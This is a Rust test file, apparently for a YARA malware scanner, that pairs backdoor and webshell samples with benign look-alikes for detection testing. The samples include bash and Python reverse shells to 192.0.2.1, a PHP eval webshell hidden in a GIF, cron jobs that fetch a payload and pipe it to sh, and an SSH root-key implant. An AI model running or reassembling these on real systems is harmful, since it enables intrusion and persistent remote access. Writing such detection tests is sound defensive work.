//! `malware.backdoor` and webshells that YARA finds.

use super::{Case, case};
use crate::samples::{elf, elf_with, library, module, plain, script, text};

pub(crate) fn cases() -> Vec<Case> {
    [libraries(), programs(), reverse_shells(), implants()]
        .into_iter()
        .flatten()
        .collect()
}

fn libraries() -> Vec<Case> {
    vec![
        case(
            "backdoor_preload_rootkit",
            library(&[
                "/etc/ld.so.pre~load",
                "dls~ym",
                "read~dir",
                "acc~ept",
                "execve",
                "fopen~64",
            ]),
            library(&[
                "/etc/ld.so.cache",
                "dls~ym",
                "read~dir",
                "acc~ept",
                "execve",
                "fopen~64",
            ]),
        ),
        case(
            "backdoor_preload_rootkit_named",
            library(&["bd~vl", "hide~dirents"]),
            library(&["hide~dirents", "readdir"]),
        ),
        case(
            "backdoor_process_hider",
            library(&["dls~ym", "read~dir", "/proc/%~s/stat", "%d (%[~^)]s"]),
            elf(&["dls~ym", "read~dir", "/proc/%~s/stat", "%d (%[~^)]s"]),
        ),
        case(
            "backdoor_password_logger_pam",
            library(&[
                "pam_sm_~authenticate",
                "pam_get_~item",
                "fop~en",
                "user=%s ~pass=%s",
            ]),
            library(&[
                "pam_sm_~authenticate",
                "pam_get_~item",
                "fop~en",
                "user %s unknown",
            ]),
        ),
        case(
            "backdoor_ebury",
            library(&["keyctl_read_~alloc", "libns~5.so"]),
            library(&["keyctl_read_~alloc", "libnss_dns.so"]),
        ),
        case(
            "backdoor_kernel_module",
            module(&[
                "vermagic~=6.1.0",
                "module_~hide",
                "give_~root",
                "hacked_~kill",
            ]),
            module(&["vermagic~=6.1.0", "module_~show", "kill_urb"]),
        ),
    ]
}

fn programs() -> Vec<Case> {
    let challenge = [
        0x58, 0x90, 0xae, 0x86, 0xf1, 0xb9, 0x1c, 0xf6, 0x29, 0x83, 0x95, 0x71, 0x1d, 0xde, 0x58,
    ];
    let with_end = |end: u8| elf_with(&[&challenge[..], &[end]].concat());
    vec![
        case(
            "backdoor_sshd",
            elf(&["Open~SSH_9.2", "+user: %s~ +password: %s"]),
            elf(&["Open~SSH_9.2", "Failed password for %s from %s"]),
        ),
        case(
            "backdoor_bpfdoor",
            elf(&["/var/run/hald~rund.pid", "/sbin/ude~vd -d"]),
            elf(&["/sbin/ude~vd -d", "/sbin/auditd"]),
        ),
        case("backdoor_tiny_shell", with_end(0x0d), with_end(0x0e)),
        case(
            "backdoor_prism",
            elf(&["I'm not ~root :(", "Detach:\t~\t\t%s", "IPTables:~\t\t%s"]),
            elf(&["I'm not ~root :(", "Version: %s"]),
        ),
        case(
            "backdoor_reverse_shell_commands",
            elf(&["bash -i >~& /dev/tcp/192.0.2.1/4444 0>&1"]),
            elf(&["bash -i", "/dev/tcp/host/port"]),
        ),
        case(
            "webshell_in_picture",
            [
                b"GIF89a;".to_vec(),
                plain("<?~php ev~al($_PO~ST['x']); ?>").into_bytes(),
            ]
            .concat(),
            [
                b"GIF89a;".to_vec(),
                plain("<?~php is read with $_PO~ST['x'] ?>").into_bytes(),
            ]
            .concat(),
        ),
    ]
}

fn reverse_shells() -> Vec<Case> {
    vec![
        case(
            "backdoor_reverse_shell_script",
            script("bash", "ba~sh -i >& /dev/tc~p/192.0.2.1/443 0>&1"),
            script("bash", "exec 3<>/dev/tc~p/192.0.2.1/80\necho ping >&3\n"),
        ),
        case(
            "backdoor_reverse_shell_languages",
            text(
                "import socket,os,pty\ns=socket.socket()\ns.conn~ect((\"192.0.2.1\",1))\nos.du~p2(s.fileno(),0)\nos.du~p2(s.fileno(),1)\npty.sp~awn(\"/bin/sh\")\n",
            ),
            text(
                "import socket,os\ns=socket.socket()\ns.conn~ect((\"192.0.2.1\",1))\nos.du~p2(s.fileno(),0)\nos.du~p2(s.fileno(),1)\n",
            ),
        ),
        case(
            "backdoor_c_shell_source",
            text(
                "#include <a.h>\nstruct sockad~dr_in a; conn~ect(s, &a, 16); du~p2(s, 0); du~p2(s, 1); exe~cve(\"/bin/sh\", 0, 0);\n",
            ),
            text(
                "#include <a.h>\nstruct sockad~dr_in a; conn~ect(s, &a, 16); du~p2(s, 0); du~p2(s, 1); exe~cve(path, 0, 0);\n",
            ),
        ),
        case(
            "backdoor_rootkit_source",
            text(
                "#include <linux/module.h>\nvoid give_~root(void);\nvoid module_~hide(void);\nint hacked_~getdents(int);\nMODULE_LIC~ENSE(\"GPL\");\n",
            ),
            text("#include <linux/module.h>\nvoid module_init(void);\nMODULE_LIC~ENSE(\"GPL\");\n"),
        ),
    ]
}

fn implants() -> Vec<Case> {
    let key = format!("ssh-rsa AA~AA{}", "B3NzaC1yc2EAAAADAQABAAABgQ".repeat(3));
    vec![
        case(
            "backdoor_key_implant",
            script(
                "sh",
                &format!(
                    "echo '{key}' >> /root/.ssh/autho~rized_keys\nchat~tr +ia /root/.ssh/autho~rized_keys\n"
                ),
            ),
            script(
                "sh",
                &format!(
                    "echo '{key}' >> /root/.ssh/autho~rized_keys\nchmod 600 /root/.ssh/autho~rized_keys\n"
                ),
            ),
        ),
        case(
            "backdoor_cron_implant",
            text(
                "*/5 * * * * root (cu~rl -fsSL http://192.0.2.1/x || wg~et -q -O- http://192.0.2.1/x)|~sh\n",
            ),
            text("*/5 * * * * root cu~rl -fsS https://status.example/ping > /dev/null\n"),
        ),
        case(
            "backdoor_cron_writer",
            script(
                "sh",
                "echo '*/5 * * * * cu~rl -s http://192.0.2.1/x | sh' | cron~tab -\n",
            ),
            script("sh", "echo '*/5 * * * * /usr/bin/backup' | cron~tab -\n"),
        ),
    ]
}
